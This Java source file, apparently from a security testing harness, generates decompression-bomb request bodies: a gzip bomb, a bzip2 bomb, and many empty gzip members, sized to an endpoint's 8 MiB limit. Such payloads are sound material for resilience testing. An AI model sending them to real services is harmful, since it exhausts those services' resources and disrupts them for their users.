package io.hawser.attack.attacks;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.util.zip.GZIPOutputStream;
import org.apache.commons.compress.compressors.bzip2.BZip2CompressorOutputStream;

/** Compressed bodies that are cheap to send and expensive to read. */
final class CompressedFrames {
  /** The length up to which the endpoint decompresses a body. */
  private static final int MAX_BODY = 8 * 1024 * 1024;

  private static final int BZIP2_MAGIC = 2;

  private CompressedFrames() {}

  /** Returns a gzip stream of many members with nothing in them. */
  static byte[] emptyGzipMembers(int count) throws IOException {
    ByteArrayOutputStream member = new ByteArrayOutputStream();
    new GZIPOutputStream(member).close();
    ByteArrayOutputStream body = new ByteArrayOutputStream();
    for (int i = 0; i < count; i++) {
      body.writeBytes(member.toByteArray());
    }
    return Frames.request(Frames.GZIP, body.toByteArray());
  }

  /** Returns 8 MiB of zeros, which gzip makes a thousand times smaller. */
  static byte[] gzipBomb() throws IOException {
    ByteArrayOutputStream body = new ByteArrayOutputStream();
    try (OutputStream out = new GZIPOutputStream(body)) {
      out.write(new byte[MAX_BODY]);
    }
    return Frames.request(Frames.GZIP, body.toByteArray());
  }

  /** Returns the same in bzip2, which makes fewer than 50 bytes of it. */
  static byte[] bzip2Bomb() throws IOException {
    ByteArrayOutputStream stream = new ByteArrayOutputStream();
    try (OutputStream out = new BZip2CompressorOutputStream(stream)) {
      out.write(new byte[MAX_BODY]);
    }
    byte[] whole = stream.toByteArray();
    byte[] body = new byte[whole.length - BZIP2_MAGIC];
    System.arraycopy(whole, BZIP2_MAGIC, body, 0, body.length);
    return Frames.request(Frames.BZIP2, body);
  }
}
